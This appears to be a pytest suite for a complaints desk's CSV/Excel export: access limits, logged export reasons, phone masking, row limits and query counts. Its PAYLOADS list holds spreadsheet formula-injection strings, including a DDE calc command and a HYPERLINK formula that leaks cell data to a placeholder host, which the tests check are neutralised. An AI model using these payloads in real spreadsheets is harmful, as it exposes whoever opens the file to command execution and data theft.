"""Lists that leave the desk: who, what for and how many is on record; no telephone number, no formula."""

import csv
import io
from datetime import timedelta

import openpyxl
import pytest

from complaints import exporting
from complaints.models import Case, Concern
from servicedesk.core import spreadsheets
from servicedesk.core.models import Event, Role
from tests import factories
from tests.counting import pinned
from tests.factories import MONDAY

URL = "/cases/export/"
PHONE = "13800001234"


@pytest.fixture(autouse=True)
def monday(time_machine):
    time_machine.move_to(MONDAY, tick=False)


@pytest.fixture
def several(yunhu, office, chen):
    return [factories.case(yunhu, by=chen, summary=f"事 {n}") for n in range(3)]


def take_out(client, user, query="?view=all", **data):
    client.force_login(user)
    community = user.memberships.first().community_id
    return client.post(URL + query, {"community": community, "reason": "周例会", "format": "csv", **data})


def table(answer):
    """The lines of a CSV answer, header first."""
    text = b"".join(answer.streaming_content).decode()
    assert text.startswith(spreadsheets.BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(spreadsheets.BOM))))


def book(answer):
    return openpyxl.load_workbook(io.BytesIO(b"".join(answer.streaming_content)))


def exported():
    return Event.objects.filter(verb="exported")


@pytest.mark.parametrize("who", ["chen", "zhou"])
def test_the_desk_takes_its_list_out_as_csv(client, request, who, several):
    answer = take_out(client, request.getfixturevalue(who))
    assert answer["Content-Type"].startswith("text/csv")
    assert answer.streaming
    lines = table(answer)
    assert [line[0] for line in lines[1:]] == [case.number for case in several[::-1]]
    assert len({len(line) for line in lines}) == 1


def test_the_same_list_as_excel_says_on_a_second_sheet_who_took_it_and_why(client, chen, several):
    answer = take_out(client, chen, "?view=all&kind=repair", format="xlsx")
    assert f"YH-20250915-0900-{chen.username}.xlsx" in answer["Content-Disposition"]
    made = book(answer)
    first, about = made.worksheets
    rows = list(first.iter_rows(values_only=True))
    assert [row[0] for row in rows[1:]] == [case.number for case in several[::-1]]
    said = [str(value) for row in about.iter_rows(values_only=True) for value in row]
    assert chen.name in said and "周例会" in said and "3" in said


def test_who_took_what_list_out_and_what_for_is_an_event_of_the_community(client, chen, yunhu, several):
    take_out(client, chen, "?view=open&kind=repair")
    event = exported().get()
    assert (event.subject, event.by, event.note, event.at) == (yunhu, chen, "周例会", MONDAY)
    assert event.data["count"] == 3
    assert "kind=repair" in event.data["wanted"] and "view=open" in event.data["wanted"]


def test_the_file_holds_the_filtered_list_and_no_more(client, chen, yunhu, several):
    factories.case(yunhu, by=chen, category="noise")
    assert len(table(take_out(client, chen, "?view=all&kind=repair"))) == 4
    assert exported().get().data["count"] == 3


@pytest.mark.parametrize("who", ["han", "liu", "li_na", "tang"])
def test_only_the_office_takes_lists_out(client, request, who, several):
    assert take_out(client, request.getfixturevalue(who)).status_code == 403
    assert not exported().exists()


def test_a_list_without_a_reason_stays_here(client, chen, several):
    answer = take_out(client, chen, reason="  ")
    assert answer.status_code == 422
    assert answer.context["export_form"].errors["reason"]
    assert not exported().exists()


def test_nothing_is_taken_out_by_a_link(client, chen, several):
    client.force_login(chen)
    assert client.get(URL).status_code == 405


def test_a_deputy_gm_takes_out_level_three_unless_widened(client, guo, chen, yunhu, several):
    top = factories.case(yunhu, by=chen, category="favours")
    assert [line[0] for line in table(take_out(client, guo))[1:]] == [top.number]
    assert len(table(take_out(client, guo, "?view=all&scope=all"))) == 5


def test_a_case_about_oneself_and_another_communitys_are_in_no_file(client, chen, other, several):
    far = factories.case(other, by=factories.staff("far", "远", Role.CLERK, community=other))
    Concern.objects.create(case=several[0], user=chen)
    lines = table(take_out(client, chen))
    numbers = {line[0] for line in lines[1:]}
    assert numbers == {case.number for case in several[1:]}
    assert far.number not in numbers
    assert exported().get().data["count"] == 2


def test_who_has_changed_the_community_meanwhile_is_told_and_gets_nothing(client, chen, other, several):
    chen.memberships.create(community=other, role=Role.CLERK)
    answer = take_out(client, chen, community=other.pk)
    assert answer.status_code == 422
    assert answer.context["export_form"].errors["community"]
    assert not exported().exists()


def test_telephone_numbers_are_masked_in_every_column(client, chen, yunhu, office):
    factories.case(
        yunhu,
        by=chen,
        reporter_phone=PHONE,
        reporter_name=f"林 {PHONE}",
        summary=f"漏水,回电 {PHONE}",
        wish=f"打 {PHONE}",
        place=f"大堂 {PHONE}",
    )
    for form in ("csv", "xlsx"):
        answer = take_out(client, chen, format=form)
        cells = [
            cell for line in (table(answer) if form == "csv" else book(answer).worksheets[0].values) for cell in line
        ]
        assert "138****1234" in cells
        assert not any(PHONE in str(cell) for cell in cells)


PAYLOADS = [
    *(sign + rest for sign in "=+-@|＝＋－＠" for rest in ("1+1", "cmd|' /C calc'!A0", "SUM(A1:A9)")),
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "'=1+1",
    '=HYPERLINK("http://x.example/?"&A1)',
    "@SUM(1)",
    "-2+3",
    "+8613800001234",
]


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_text_never_becomes_a_formula(client, chen, yunhu, office, form):
    assert len(PAYLOADS) >= 40
    case = factories.case(yunhu, by=chen)
    for payload in PAYLOADS:
        text = payload.replace("\x00", "")
        Case.objects.filter(pk=case.pk).update(summary=text, place=text, wish=text, reporter_name=text)
        answer = take_out(client, chen, format=form)
        if form == "csv":
            line = table(answer)[1]
            assert [cell[:1] for cell in (line[6], line[7], line[8])] == ["'"] * 3, repr(payload)
        else:
            cells = next(book(answer).worksheets[0].iter_rows(min_row=2))
            assert {cell.data_type for cell in cells} <= {"s", "inlineStr", "n", "d"}, repr(payload)
            assert cells[6].value.startswith("'")


def test_safe_text_says_the_same_of_every_payload():
    for payload in PAYLOADS:
        assert spreadsheets.safe_text(payload).startswith("'"), repr(payload)
    for plain in ("厨房水管漏水", "3-2-1201", "YH-BX250915-0001", "", "a=b", "1-2"):
        assert spreadsheets.safe_text(plain) == plain


def test_numbers_and_times_stay_what_they_are(client, chen, several):
    Case.objects.filter(pk=several[0].pk).update(urges=7)
    made = book(take_out(client, chen, format="xlsx")).worksheets[0]
    header = [cell.value for cell in made[1]]
    last = made[4]
    assert (last[22].value, last[22].data_type) == (7, "n")
    assert last[3].is_date and last[3].value == MONDAY.replace(tzinfo=None)
    assert (last[14].value, last[14].data_type) == (1, "n")
    assert len(header) == len(last) == 24
    line = b"".join(take_out(client, chen).streaming_content).decode().splitlines()[-1]
    assert ",7," in line and '"事 0"' in line


def test_a_file_too_long_for_the_browser_is_refused_with_a_sentence(client, chen, several, monkeypatch):
    monkeypatch.setattr(exporting, "MOST_ROWS", 2)
    answer = take_out(client, chen)
    assert answer.status_code == 422
    assert "2" in answer.context["export_form"].non_field_errors()[0]
    assert not exported().exists()
    assert len(table(take_out(client, chen, "?view=all&q=0001"))) == 2


def test_the_rows_of_a_file_are_late_as_the_pages_say(client, chen, yunhu, office, time_machine):
    factories.case(yunhu, by=chen, now=MONDAY - timedelta(days=9))
    factories.case(yunhu, by=chen, now=MONDAY)
    lines = table(take_out(client, chen))
    assert len({line[16] for line in lines[1:]}) == 2


def test_a_hundred_rows_cost_the_queries_of_ten(client, chen, yunhu, office):
    made = 0
    take_out(client, chen)
    for count in (10, 100):
        for _n in range(made, count):
            factories.case(yunhu, by=chen)
        made = count
        with pinned("case list, taken out"):
            answer = client.post(URL, {"community": yunhu.pk, "reason": "周例会", "format": "csv"})
            assert len(table(answer)) == count + 1
